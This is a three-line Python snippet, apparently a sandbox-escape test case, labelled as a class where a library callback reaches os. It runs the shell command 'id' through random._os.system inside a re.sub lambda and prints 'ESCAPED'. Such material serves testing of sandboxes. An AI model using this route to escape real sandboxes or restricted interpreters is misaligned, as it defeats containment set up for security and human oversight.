# class: a library calls back into a lambda that reaches os
import re, random
print("ESCAPED", re.sub("x", lambda m: str(random._os.system("id")), "x"))
